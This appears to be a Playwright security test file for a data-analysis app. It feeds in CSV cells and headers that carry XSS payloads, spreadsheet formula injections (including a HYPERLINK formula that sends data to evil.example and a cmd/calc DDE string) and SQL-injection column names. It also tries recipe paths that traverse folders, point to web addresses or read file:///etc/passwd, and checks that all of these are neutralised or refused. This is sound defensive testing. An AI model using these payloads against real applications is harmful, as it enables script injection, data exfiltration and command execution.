/**
 * Adversarial inputs: markup and script in cells and headers, spreadsheet formulas, names
 * crafted to break generated SQL, and recipes that try to reach outside their folder or the
 * network. The fixture also fails on any CSP violation or off-origin request.
 */
import { test, expect } from './fixtures';
// The runner tests drive their own browser (the runner's report carries their egress check).
import { test as runnerTest } from '@playwright/test';
import { analyze } from './runner';
import { createHash } from 'node:crypto';
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import type { Download, Page } from '@playwright/test';
import { AppPage, editorValue } from './pages/app';

// RFC 4180: a field with a quote is quoted, its quotes doubled.
const EVIL_CSV =
  [
    `customer_id,ts,event_type,item_id,amount,note,link,"<img src=y onerror=window.__pwned='header'>"`,
    `"<img src=x onerror=""window.__pwned='img'"">",2025-01-01 10:00:00,purchase,"<script>window.__pwned='script'</script>",10.5,"=HYPERLINK(""http://evil.example/?d=""&A1,""click"")","javascript:window.__pwned='link'",a`,
    `"=cmd|' /C calc'!A0",2025-01-02 11:00:00,purchase,I2,-1,"+cmd|' /C calc'!A0","<a href=""javascript:window.__pwned='a'"">x</a>",b`,
    `@SUM(1+1),2025-01-03 12:00:00,purchase,I3,3,-1+1,"<svg onload=""window.__pwned='svg'""></svg>",c`,
    `C4,2025-01-04 13:00:00,view,"<iframe src=""javascript:window.__pwned='iframe'"">",4,@SUM(A1:A9),"data:text/html,<script>window.__pwned='data'</script>",d`,
  ].join('\n') + '\n';

/** Elements the payloads would have created had any view rendered them as markup. */
const PAYLOAD_ELEMENTS =
  'img[src="x"], img[src="y"], script:not([src]), svg[onload], iframe, a[href^="javascript:"], [onerror], [onload]';

async function csvOf(download: Download): Promise<string[][]> {
  // Parsed by DuckDB (an independent reader), every field as text.
  const conn = await (await DuckDBInstance.create(':memory:')).connect();
  const reader = await conn.runAndReadAll(
    `SELECT * FROM read_csv('${(await download.path())!}', header = false, all_varchar = true, quote = '"', escape = '"')`,
  );
  return reader.getRowsJS().map((r) => r.map((v) => (v === null ? '' : String(v))));
}

async function runRecipeSteps(page: Page, steps: unknown[]) {
  const app = new AppPage(page);
  await app.tab('Recipe & report');
  const editor = page.getByTestId('recipe-json');
  const recipe = JSON.parse(await editorValue(editor));
  await editor.fill(JSON.stringify({ ...recipe, steps }));
  await page.getByTestId('run-recipe').click();
  await app.waitIdle();
  await expect(app.error()).toHaveCount(0);
}

test('markup and script in cells and headers never run or render, in any view; CSV exports neutralise formulas', async ({
  page,
  egress,
}) => {
  test.setTimeout(300_000);
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      w.__cspViolations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
  const app = new AppPage(page);
  await app.open();
  await app.addFile('evil.csv', EVIL_CSV);
  await expect(app.tableTab('evil')).toContainText('4');
  await expect(page.getByText('<img src=x onerror="window.__pwned=\'img\'">').first()).toBeVisible();
  await runRecipeSteps(page, [
    { id: 'rfm1', op: 'rfm', input: 'evil', params: { customer: 'customer_id', time: 'ts', amount: 'amount' } },
    { id: 'prof', op: 'profile', input: 'evil', params: {} },
  ]);

  // Every view, in turn; the customer page for the customer whose id is markup.
  const tabs = page.getByRole('navigation', { name: 'Stages' }).getByRole('button');
  for (let i = 0; i < (await tabs.count()); i++) {
    await tabs.nth(i).click();
    await app.waitIdle();
    await page.waitForTimeout(300);
  }
  await app.tab('Customer');
  await page.getByTestId('customer-search').fill('<img src=x onerror="window.__pwned=\'img\'">');
  await page.getByTestId('customer-show').click();
  await app.waitIdle();
  await expect(page.getByTestId('customer-profile')).toContainText('<img src=x');
  await app.shot('adversarial-customer');

  // The SQL console's CSV export (all columns: this table has nothing personal to keep out).
  await app.tab('SQL');
  await page.getByTestId('sql-input').fill('SELECT * FROM evil ORDER BY ts');
  await page.getByTestId('sql-run').click();
  await expect(page.getByTestId('sql-result')).toContainText('=HYPERLINK');
  await page.getByTestId('sql-include-personal').check();
  const [sqlDownload] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  const rows = await csvOf(sqlDownload);
  // By hand from EVIL_CSV, after OWASP's rule (a leading = + - @ gets a '); numbers stay numbers.
  expect(rows[0]).toEqual([
    'customer_id',
    'ts',
    'event_type',
    'item_id',
    'amount',
    'note',
    'link',
    "<img src=y onerror=window.__pwned='header'>",
  ]);
  expect(rows.slice(1).map((r) => [r[0], r[4], r[5]])).toEqual([
    [`<img src=x onerror="window.__pwned='img'">`, '10.5', `'=HYPERLINK("http://evil.example/?d="&A1,"click")`],
    ["'=cmd|' /C calc'!A0", '-1.0', "'+cmd|' /C calc'!A0"],
    ["'@SUM(1+1)", '3.0', "'-1+1"],
    ['C4', '4.0', "'@SUM(A1:A9)"],
  ]);

  // The RFM view's export: customer ids that are formulas.
  await app.tab('RFM');
  const [rfmDownload] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Export all' }).click(),
  ]);
  const rfm = (await csvOf(rfmDownload))
    .slice(1)
    .map((r) => r[0])
    .sort();
  expect(rfm).toEqual(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", `<img src=x onerror="window.__pwned='img'">`, 'C4']);

  const evidence = await page.evaluate(
    (selector) => ({
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      violations: (window as unknown as { __cspViolations: string[] }).__cspViolations,
      elements: document.querySelectorAll(selector).length,
    }),
    PAYLOAD_ELEMENTS,
  );
  expect(evidence).toEqual({ pwned: undefined, violations: [], elements: 0 });
  // An <img src=x> rendered anywhere would have requested /x.
  expect(egress.requests.filter((u) => /\/(x|y)$/.test(new URL(u).pathname))).toEqual([]);
});

runnerTest(
  'names and values crafted to break generated SQL load and aggregate correctly (headless runner, with its audit report)',
  async () => {
    const dir = mkdtempSync(join(tmpdir(), 'adversarial-sql-'));
    const csv =
      [
        `"cust'; DROP TABLE sqlish; --",ts,"amount"" OR 1=1 --","order;--"`,
        `"O'Brien; --",2025-01-01 10:00:00,10.5,"o1'--"`,
        `"O'Brien; --",2025-02-01 10:00:00,4.5,o2`,
        `"""; DROP TABLE events; --",2025-01-15 09:00:00,7,o3`,
        `x' OR '1'='1,2025-03-01 08:00:00,1,o4`,
        `x' OR '1'='1,2025-03-01 09:00:00,2,o4`,
      ].join('\n') + '\n';
    writeFileSync(join(dir, 'sqlish.csv'), csv);
    writeFileSync(
      join(dir, 'recipe.json'),
      JSON.stringify({
        version: 1,
        sources: [{ name: 'sqlish', file: 'sqlish.csv' }],
        steps: [
          {
            id: 'r1',
            op: 'rfm',
            input: 'sqlish',
            params: {
              customer: "cust'; DROP TABLE sqlish; --",
              time: 'ts',
              amount: 'amount" OR 1=1 --',
              basket: 'order;--',
              asOf: '2025-04-01',
            },
          },
          { id: 'p1', op: 'profile', input: 'sqlish', params: {} },
        ],
      }),
    );
    const res = await analyze(join(dir, 'recipe.json'), '--out', join(dir, 'out'));
    expect(res.stderr).toBe('');
    expect(res.code).toBe(0);
    const report = JSON.parse(readFileSync(join(dir, 'out', 'report.json'), 'utf8'));
    expect(report.steps.sqlish.tables.sqlish.columns.map((c: { name: string }) => c.name)).toEqual([
      "cust'; DROP TABLE sqlish; --",
      'ts',
      'amount" OR 1=1 --',
      'order;--',
    ]);
    expect(report.steps.sqlish.rowsOut ?? report.steps.sqlish.tables.sqlish.rows).toBe(5);

    const conn = await (await DuckDBInstance.create(':memory:')).connect();
    const rfm = (
      await conn.runAndReadAll(
        `SELECT customer, recency_days, frequency, monetary FROM read_csv('${join(dir, 'out', 'r1.rfm.csv')}', header = true) ORDER BY customer`,
      )
    ).getRowsJS();
    // By hand: O'Brien has orders o1'-- and o2 (10.5 + 4.5), last on 1 Feb (59 days before 1 Apr);
    // x' OR '1'='1 has one order o4 of two lines (1 + 2) on 1 Mar (31 days); the other, 7 on 15 Jan (76 days).
    expect(rfm.map((r) => [r[0], Number(r[1]), Number(r[2]), Number(r[3])])).toEqual([
      ['"; DROP TABLE events; --', 76, 1, 7],
      ["O'Brien; --", 59, 2, 15],
      ["x' OR '1'='1", 31, 1, 3],
    ]);
    const profiled = report.steps.p1.summary;
    expect(JSON.stringify(profiled)).toContain("cust'; DROP TABLE sqlish; --");

    // The runner's audit report: the file's fingerprint as Node computes it, and no egress.
    const audit = JSON.parse(readFileSync(join(dir, 'out', 'audit.json'), 'utf8'));
    expect(audit.inputs).toEqual([
      {
        source: 'sqlish',
        name: join(dir, 'sqlish.csv'),
        bytes: Buffer.byteLength(csv),
        sha256: createHash('sha256').update(csv).digest('hex'),
      },
    ]);
    expect(audit.steps.map((s: { id: string; status: string }) => `${s.id}:${s.status}`)).toEqual([
      'sqlish:ok',
      'r1:ok',
      'p1:ok',
    ]);
    expect(audit.network.offOriginCount).toBe(0);
    expect(audit.network.requests).toBeGreaterThan(5);
    expect(audit.outputs.map((o: { name: string }) => o.name)).toEqual(
      expect.arrayContaining(['r1.rfm.csv', 'report.json']),
    );
    const html = readFileSync(join(dir, 'out', 'audit.html'), 'utf8');
    expect(html).toContain('cust&#39;; DROP TABLE sqlish; --');
    expect(html).not.toMatch(/<script/i);
  },
);

runnerTest(
  'the runner refuses recipes with unknown fields, wrong types, paths outside their folder or URLs',
  async () => {
    const dir = mkdtempSync(join(tmpdir(), 'adversarial-recipes-'));
    mkdirSync(join(dir, 'recipes'));
    writeFileSync(join(dir, 'outside.csv'), 'customer,ts,amount\nA,2025-01-01,1\n');
    writeFileSync(join(dir, 'recipes', 'shop.csv'), 'customer,ts,amount\nA,2025-01-01,1\n');
    const cases: Array<[unknown, string]> = [
      [
        { version: 1, sources: [{ name: 'shop', file: 'shop.csv' }], steps: [], extra: true },
        "recipe: field 'extra': unknown field",
      ],
      [
        { version: 1, sources: [{ name: 'shop', file: 'shop.csv', url: 'https://example.com' }] },
        "recipe: field 'sources.0.url': unknown field",
      ],
      [
        { version: 1, sources: [{ name: 'shop', file: 42 }] },
        "recipe: field 'sources.0.file': Invalid input: expected string, received number",
      ],
      [{ version: '1', sources: [] }, "recipe: field 'version': Invalid option: expected one of 1|2"],
      [
        {
          version: 1,
          sources: [{ name: 'shop', file: 'shop.csv' }],
          steps: [{ id: 'r1', op: 'rfm', input: 'shop', params: { customer: 42, time: 'ts', amount: 'amount' } }],
        },
        "step 'r1', field 'customer': Invalid input: expected string, received number",
      ],
      [
        { version: 1, sources: [{ name: 'shop', file: '../outside.csv' }] },
        "source 'shop': '../outside.csv' points outside the recipe's folder",
      ],
      [
        { version: 1, sources: [{ name: 'shop', file: 'https://example.com/shop.csv' }] },
        "source 'shop': 'https://example.com/shop.csv' is a web address: recipes never fetch from the network",
      ],
      [
        { version: 1, sources: [{ name: 'shop', file: 'file:///etc/passwd' }] },
        "source 'shop': 'file:///etc/passwd' is a file: URL",
      ],
    ];
    for (const [i, [recipe, message]] of cases.entries()) {
      writeFileSync(join(dir, 'recipes', `r${i}.json`), JSON.stringify(recipe));
      const res = await analyze(join(dir, 'recipes', `r${i}.json`), '--out', join(dir, `out${i}`));
      expect(res.code, message).toBe(1);
      expect(res.stderr.trim().split('\n'), message).toHaveLength(1);
      expect(res.stderr).toContain(`custodian analyze: ${message}`);
    }
  },
);

test.describe('the deep link', () => {
  // Served by the test itself (page.route), so the service worker stays out of the way.
  test.use({ serviceWorkers: 'block' });

  test('refuses bad recipes with a clear message and never reaches another host', async ({ page, egress }) => {
    const app = new AppPage(page);
    const recipes: Record<string, unknown> = {
      unknown: { version: 1, sources: [], steps: [], extra: true },
      types: {
        version: 1,
        sources: [{ name: 'events', file: 'events.csv' }],
        steps: [{ id: 'r1', op: 'rfm', input: 'events', params: { customer: 42, time: 'ts', amount: 'amount' } }],
      },
      outside: { version: 1, sources: [{ name: 'events', file: '../events.csv' }] },
      encoded: { version: 1, sources: [{ name: 'events', file: '%2e%2e/events.csv' }] },
      web: { version: 1, sources: [{ name: 'events', file: 'https://example.com/events.csv' }] },
      host: { version: 1, sources: [{ name: 'events', file: '//example.com/events.csv' }] },
    };
    await page.route('**/samples/bad/*.recipe.json', (route) => {
      const name = new URL(route.request().url()).pathname.split('/').pop()!.replace('.recipe.json', '');
      return route.fulfill({ contentType: 'application/json', body: JSON.stringify(recipes[name]) });
    });
    const expected: Record<string, string> = {
      unknown: "recipe: field 'extra': unknown field",
      types: "step 'r1', field 'customer': Invalid input: expected string, received number",
      outside: "source 'events': '../events.csv' points outside the recipe's folder",
      encoded: "source 'events': '%2e%2e/events.csv' points outside the recipe's folder",
      web: "source 'events': 'https://example.com/events.csv' is a web address: recipes never fetch from the network",
      host: "source 'events': '//example.com/events.csv' names another machine",
    };
    for (const [name, message] of Object.entries(expected)) {
      await app.open(`?recipe=/samples/bad/${name}.recipe.json&run=1`);
      await expect(app.error()).toContainText(message);
      await expect(page.locator('body')).toHaveAttribute('data-report', 'error');
    }
    for (const [link, other] of [
      ['javascript:alert(1)', 'a javascript: URL'],
      ['//example.com/x.recipe.json', 'http://example.com'],
      ['data:application/json,{}', 'a data: URL'],
    ]) {
      await app.open(`?recipe=${encodeURIComponent(link!)}&run=1`);
      await expect(app.error()).toHaveText(
        `The recipe link must point to this app's own origin (${new URL(page.url()).origin}), not ${other}.`,
      );
    }
    await app.shot('adversarial-deeplink');
    expect(egress.requests.filter((u) => new URL(u).hostname.endsWith('example.com'))).toEqual([]);
  });
});
